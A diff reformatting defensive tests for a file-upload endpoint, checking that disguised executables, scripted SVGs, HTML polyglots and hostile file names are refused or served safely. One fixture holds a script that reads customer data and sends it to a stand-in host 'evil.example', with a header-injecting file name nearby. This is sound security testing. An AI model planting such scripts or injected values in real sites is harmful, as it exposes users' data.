@@ -33,23 +33,83 @@ afterAll(async () => {
   resetEnvCache();
 });
 
-function upload(file: Buffer | null, name: string, fields: Record<string, string> = { category: 'other' }, clientType = 'application/pdf') {
-  return call(UPLOAD, { method: 'POST', params: { id: customerId }, auth: admin, rawBody: multipart(file, name, fields, clientType) });
+function upload(
+  file: Buffer | null,
+  name: string,
+  fields: Record<string, string> = { category: 'other' },
+  clientType = 'application/pdf',
+) {
+  return call(UPLOAD, {
+    method: 'POST',
+    params: { id: customerId },
+    auth: admin,
+    rawBody: multipart(file, name, fields, clientType),
+  });
 }
 
-const html = Buffer.from('<!DOCTYPE html><html><body><script>fetch("/api/customers").then(r=>r.text()).then(t=>location="//evil.example/?"+t)</script></body></html>');
+const html = Buffer.from(
+  '<!DOCTYPE html><html><body><script>fetch("/api/customers").then(r=>r.text()).then(t=>location="//evil.example/?"+t)</script></body></html>',
+);
 const png = samples.png();
 
 // Refused outright: [label, file, name, fields, client type, status, code]
 const REFUSED: [string, Buffer, string, Record<string, string>, string, number, string][] = [
-  ['ELF executable named .pdf', samples.elf(), 'facture.pdf', { category: 'invoice' }, 'application/pdf', 415, 'unsupported_media_type'],
-  ['PE executable named .pdf', samples.pe(), 'facture.pdf', { category: 'invoice' }, 'application/pdf', 415, 'unsupported_media_type'],
-  ['SVG with a script', samples.svg(), 'logo.svg', { category: 'photo' }, 'image/svg+xml', 415, 'unsupported_media_type'],
-  ['SVG with onload, named .png', samples.svgWithXmlDecl(), 'logo.png', { category: 'photo' }, 'image/png', 415, 'unsupported_media_type'],
+  [
+    'ELF executable named .pdf',
+    samples.elf(),
+    'facture.pdf',
+    { category: 'invoice' },
+    'application/pdf',
+    415,
+    'unsupported_media_type',
+  ],
+  [
+    'PE executable named .pdf',
+    samples.pe(),
+    'facture.pdf',
+    { category: 'invoice' },
+    'application/pdf',
+    415,
+    'unsupported_media_type',
+  ],
+  [
+    'SVG with a script',
+    samples.svg(),
+    'logo.svg',
+    { category: 'photo' },
+    'image/svg+xml',
+    415,
+    'unsupported_media_type',
+  ],
+  [
+    'SVG with onload, named .png',
+    samples.svgWithXmlDecl(),
+    'logo.png',
+    { category: 'photo' },
+    'image/png',
+    415,
+    'unsupported_media_type',
+  ],
   ['HTML named .png', html, 'photo.png', { category: 'photo' }, 'image/png', 415, 'unsupported_media_type'],
-  ['HTML with a BOM, named .pdf', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), html]), 'devis.pdf', { category: 'quote' }, 'application/pdf', 415, 'unsupported_media_type'],
+  [
+    'HTML with a BOM, named .pdf',
+    Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), html]),
+    'devis.pdf',
+    { category: 'quote' },
+    'application/pdf',
+    415,
+    'unsupported_media_type',
+  ],
   ['zero bytes', Buffer.alloc(0), 'vide.pdf', { category: 'other' }, 'application/pdf', 422, 'validation_failed'],
-  [`MAX_UPLOAD_MB + 1 (${MAX_MB + 1} MB)`, Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc((MAX_MB + 1) * 1024 * 1024, 0x20)]), 'gros.pdf', { category: 'report' }, 'application/pdf', 413, 'payload_too_large'],
+  [
+    `MAX_UPLOAD_MB + 1 (${MAX_MB + 1} MB)`,
+    Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc((MAX_MB + 1) * 1024 * 1024, 0x20)]),
+    'gros.pdf',
+    { category: 'report' },
+    'application/pdf',
+    413,
+    'payload_too_large',
+  ],
 ];
 
 describe('hostile files', () => {
@@ -68,17 +128,27 @@ describe('hostile files', () => {
     // A PDF carrying HTML, and a PNG with a script appended: accepted for what their bytes start as.
     const pdfHtml = Buffer.concat([samples.pdf(), html]);
     const pngJs = Buffer.concat([png, Buffer.from('<script>alert(document.domain)</script>')]);
-    for (const [file, name, mime] of [[pdfHtml, 'poly.html', 'application/pdf'], [pngJs, 'poly.png.html', 'image/png']] as const) {
+    for (const [file, name, mime] of [
+      [pdfHtml, 'poly.html', 'application/pdf'],
+      [pngJs, 'poly.png.html', 'image/png'],
+    ] as const) {
       const res = await upload(file, name, { category: 'other' }, 'text/html');
       expect(res.status).toBe(201);
       expect(res.body.mimeType).toBe(mime);
       for (const inline of [false, true]) {
-        const dl = await call(DOWNLOAD, { params: { id: customerId, docId: res.body.id }, auth: admin, query: inline ? { inline: '1' } : {} });
+        const dl = await call(DOWNLOAD, {
+          params: { id: customerId, docId: res.body.id },
+          auth: admin,
+          query: inline ? { inline: '1' } : {},
+        });
         expect(dl.status).toBe(200);
         expect(dl.headers.get('content-type')).toBe(mime);
         expect(dl.headers.get('x-content-type-options')).toBe('nosniff');
         // Inline previews: images are CSP-sandboxed; PDFs get default-src 'none' (Chromium's viewer refuses a sandbox).
-        if (inline) expect(dl.headers.get('content-security-policy')).toMatch(mime === 'application/pdf' ? /default-src 'none'/ : /sandbox/);
+        if (inline)
+          expect(dl.headers.get('content-security-policy')).toMatch(
+            mime === 'application/pdf' ? /default-src 'none'/ : /sandbox/,
+          );
         else expect(dl.headers.get('content-disposition')).toMatch(/^attachment;/);
       }
     }
@@ -97,26 +167,29 @@ describe('hostile names', () => {
     ['quotes and semicolons', 'a";filename=evil.html;.pdf'],
   ];
 
-  it.each(NAMES)('%s → stored under a random key with a harmless label and a safe download header', async (_label, name) => {
-    const res = await upload(samples.pdf(), name);
-    if (res.status !== 201) {
-      // Refusing a hostile name is acceptable too — with the error shape and nothing stored.
-      expect(res.status).toBeGreaterThanOrEqual(400);
-      expect(res.status).toBeLessThan(500);
-      expect(typeof res.body.error.code).toBe('string');
-      return;
-    }
-    const label: string = res.body.originalName;
-    expect(label).not.toMatch(/[/\\\u0000-\u001f\u007f\u202a-\u202e]/);
-    expect(label.startsWith('.')).toBe(false);
-    expect(Array.from(label).length).toBeLessThanOrEqual(255);
-    const files = await listUploadFiles();
-    expect(files.every((f) => /^[0-9a-f]{2}[/\\][0-9a-f-]{36}$/.test(f))).toBe(true);
-    const dl = await call(DOWNLOAD, { params: { id: customerId, docId: res.body.id }, auth: admin });
-    const cd = dl.headers.get('content-disposition')!;
-    expect(cd).toMatch(/^attachment; filename="[\x20-\x7e]*"; filename\*=UTF-8''[A-Za-z0-9%._~!$&+\-^`|#]*$/);
-    expect(cd.slice(cd.indexOf('"') + 1, cd.lastIndexOf('"'))).not.toContain('"');
-  });
+  it.each(NAMES)(
+    '%s → stored under a random key with a harmless label and a safe download header',
+    async (_label, name) => {
+      const res = await upload(samples.pdf(), name);
+      if (res.status !== 201) {
+        // Refusing a hostile name is acceptable too — with the error shape and nothing stored.
+        expect(res.status).toBeGreaterThanOrEqual(400);
+        expect(res.status).toBeLessThan(500);
+        expect(typeof res.body.error.code).toBe('string');
+        return;
+      }
+      const label: string = res.body.originalName;
+      expect(label).not.toMatch(/[/\\\u0000-\u001f\u007f\u202a-\u202e]/);
+      expect(label.startsWith('.')).toBe(false);
+      expect(Array.from(label).length).toBeLessThanOrEqual(255);
+      const files = await listUploadFiles();
+      expect(files.every((f) => /^[0-9a-f]{2}[/\\][0-9a-f-]{36}$/.test(f))).toBe(true);
+      const dl = await call(DOWNLOAD, { params: { id: customerId, docId: res.body.id }, auth: admin });
+      const cd = dl.headers.get('content-disposition')!;
+      expect(cd).toMatch(/^attachment; filename="[\x20-\x7e]*"; filename\*=UTF-8''[A-Za-z0-9%._~!$&+\-^`|#]*$/);
+      expect(cd.slice(cd.indexOf('"') + 1, cd.lastIndexOf('"'))).not.toContain('"');
+    },
+  );
 
   it('hostile text fields (NUL, huge, script) next to the file do not cause a 500 or a stray file', async () => {
     for (const fields of <Record<string, string>[]>[
